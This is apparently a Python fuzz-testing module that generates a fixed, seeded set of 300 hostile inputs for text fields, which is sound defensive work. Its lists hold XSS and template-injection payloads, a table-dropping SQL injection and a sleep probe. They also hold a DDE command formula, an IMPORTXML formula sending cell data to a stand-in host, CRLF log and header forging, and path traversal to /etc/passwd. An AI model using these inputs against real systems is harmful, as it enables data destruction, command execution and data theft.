"""300 strings that nobody types by mistake: for every field that takes text. Made from a seed, the same each time."""

import random
import unicodedata

SEED = 20161108
FORGED = "2026-01-01 00:00:00,000 INFO forged"
MARK = "<img src=x onerror=alert(1)>"
COUNT = 300

CONTROLS = [chr(code) for code in (*range(1, 32), 127, *range(0x80, 0xA0))]
INVISIBLE = list("\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2028\u2029\ufffc\ufffd\ufffe\U000e0001\U000e0061")
BIDI = list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
RARE = [chr(code) for code in (0x20000, 0x2A6D6, 0x2A700, 0x2B740, 0x2B820, 0x2CEB0, 0x30000, 0x31350, 0x2EBF0)]
SCRIPTS = [
    MARK,
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<!--",
    "-->",
    "]]>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "<iframe src=//example.invalid></iframe>",
    "<base href=//example.invalid/>",
    "<style>*{display:none}</style>",
    "</form><form action=//example.invalid>",
    "<math><mi xlink:href=data:x,y>",
    "\u003cscript\u003e",
    "＜script＞",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{% load static %}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "%(name)s",
    "%s%s%s%n",
    "{0.__class__}",
    "{}{}",
    "{name!r}",
    "<%= 7 %>",
    "{{constructor.constructor('x')()}}",
    "__proto__",
    "constructor",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE payments_receipt; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "') UNION SELECT 1--",
    "\\'; --",
    "%' AND 1=1 --",
    "$$;--",
    "E'\\x27'",
    "admin'/*",
    "_%_%",
    "%%%%",
    "*" * 50,
]
FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "|1",
    "%0A=1",
]
LINES = [
    f"张三\r\n{FORGED}",
    f"\n{FORGED}",
    f"a\r{FORGED}",
    f"x\u2028{FORGED}",
    f"\x85{FORGED}",
    "a\r\nSet-Cookie: x=y",
    "%0d%0aSet-Cookie: x=y",
    "a\x0b\x0cb",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x08" * 20,
]
PATHS = [
    "../../../etc/passwd",
    "..\\..\\windows",
    "/dev/zero",
    "file:///etc/passwd",
    "C:\\con",
    "nul",
    "a\\b/c",
    "~root",
    "./././",
    "%2e%2e%2f",
    "a" * 300 + ".txt",
    ".",
    "..",
]
NUMBERS = [
    "1e309",
    "-0",
    "NaN",
    "Infinity",
    "٣٤٥",
    "①②",
    "１２３",
    "1,000.00",
    "0x10",
    "1_000",
    "9" * 400,
    "1.0000000000001",
    "-1",
    "1e-9",
    "½",
    "〇",
    "壹佰",
]
DAYS = ["0000-00-00", "9999-12-31", "2026-02-30", "1582-10-10", "２０２６-01-01", "-0001-01-01", "99999-01-01"]
JOINED = [
    "e" + "\u0301" * 500,
    "Z\u0351\u036b\u0343\u036a" * 40,
    "👨‍👩‍👧‍👦" * 20,
    "🏳️‍🌈",
    "\u0e33" * 100,
    "ﷺ" * 30,
    "ß" * 100,
    "İ" * 50,
    "\u1100\u1161\u11a8" * 30,
    "가" * 60,
    "\ud7ff\ue000",
    "\U0010ffff" * 5,
]
LONG = ["张" * 60, "长" * 1_000, "x" * 70_000, "a b " * 20_000, "一" * 330_000, "<" * 50_000]
EMPTY = ["", " ", "\u3000", "\u00a0\u00a0", "\t\n", "''", "null", "None", "undefined", "[]", "{}"]
NULS = ["\0", "张\0三", "a" * 50 + "\0"]
KINDS = {
    "controls": CONTROLS,
    "invisible": INVISIBLE,
    "bidi": BIDI,
    "rare": RARE,
    "scripts": SCRIPTS,
    "templates": TEMPLATES,
    "sql": SQL,
    "formulas": FORMULAS,
    "lines": LINES,
    "paths": PATHS,
    "numbers": NUMBERS,
    "days": DAYS,
    "joined": JOINED,
    "long": LONG,
    "empty": EMPTY,
    "nuls": NULS,
}


def strings() -> list[str]:
    """All of them; what the kinds leave of 300 is drawn from them, joined with ordinary names."""
    chance = random.Random(SEED)
    found = [text for kind in KINDS.values() for text in kind]
    short = [text for text in found if 0 < len(text) <= 60 and "\0" not in text]
    while len(found) < COUNT:
        name = chance.choice(["张三", "欧阳小红", "O'Neil", "Ünal"])
        text = name[:1] + chance.choice(short) + name[1:] + chance.choice(short)
        found.append(chance.choice([text, unicodedata.normalize("NFD", text), text * 3]))
    return found


def sample(count: int, *, seed: int) -> list[str]:
    """Some of each kind, so that a short run meets them all."""
    chance = random.Random(seed)
    kinds = list(KINDS.values())
    return [chance.choice(kinds[place % len(kinds)]) for place in range(count)]
